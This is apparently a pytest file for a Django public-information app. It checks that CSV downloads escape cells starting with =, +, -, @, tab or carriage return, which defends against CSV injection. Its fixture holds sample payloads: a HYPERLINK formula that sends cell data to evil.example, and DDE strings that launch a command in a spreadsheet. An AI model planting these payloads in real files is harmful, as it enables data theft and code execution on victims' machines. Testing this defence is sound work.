"""CSV downloads never carry a formula a spreadsheet would run (OWASP "CSV Injection"): the
public list of a published edition and the officers' compliance report, as downloaded."""

from __future__ import annotations

import csv
import io

import pytest

from dip.models import Stage
from ppid.spreadsheet import FORMULA_STARTS, neutralise
from tests.helpers import edition_at
from workflow.models import SopStep

pytestmark = pytest.mark.django_db

DINSOS = "dinsos-p3a-kapuas-hulu"
KUBU = "disdukcapil-kubu-raya"
HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1;"Klik untuk unduh")',
    "summary": "+62 561 123456 (telepon dinas)",
    "holding_unit": "-2+3+cmd|' /C calc'!A0",
    "responsible": "@SUM(1+1)*cmd|' /C calc'!A0",
    "produced_place": "\t=1+1",
    "retention": "\r=1+1",
}


def table(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # What a person reads is kept: ordinary text, numbers, and text that is only a number.
        ("Laporan keuangan 2026", "Laporan keuangan 2026"),
        ("a=b", "a=b"),
        ("-5", "-5"),
        ("+62", "+62"),
        ("-12,5", "-12,5"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_starts_a_formula(cell, shown):
    assert neutralise(cell) == shown


def test_public_csv_of_a_published_edition_runs_no_formula(seeded, api, client):
    created = api(f"{DINSOS}.operator").post(
        "/api/items/",
        {
            "body": DINSOS,
            "classification": "setiap_saat",
            "produced_at": "2026-01-05",
            "form": "softcopy",
            **HOSTILE,
        },
        format="json",
    )
    assert created.status_code == 201, created.data
    edition = edition_at(DINSOS, Stage.PUBLISHED)

    base = f"/badan-publik/{DINSOS}/edisi/{edition.pk}/"
    header, *lines = table(client.get(f"{base}daftar.csv"))

    # The JSON shows the text as it was stored (the API trims surrounding whitespace) ...
    [written] = [
        r for r in client.get(f"{base}daftar.json").json()["rows"] if "HYPERLINK" in r["title"]
    ]
    [line] = [line for line in lines if "HYPERLINK" in line[header.index("title")]]
    row = dict(zip(header, line, strict=True))
    for name in HOSTILE:
        assert written[name].startswith(FORMULA_STARTS), name
        # ... and the CSV the same text as text, never as a formula.
        assert row[name] == "'" + written[name], name
    assert row["produced_at"] == "2026-01-05"
    others = [dict(zip(header, other, strict=True)) for other in lines if other != line]
    assert others and not any(v.startswith("'") for r in others for v in r.values())


def test_compliance_report_csv_runs_no_formula(seeded, login):
    step = SopStep.objects.filter(sop__body__slug=KUBU).order_by("number").first()
    step.activity = "=1+1"
    step.save()

    header, *lines = table(login(f"{KUBU}.atasan").get(f"/badan/{KUBU}/laporan.csv"))

    activities = [line[header.index("Kegiatan")] for line in lines]
    assert "'=1+1" in activities
    assert "=1+1" not in activities
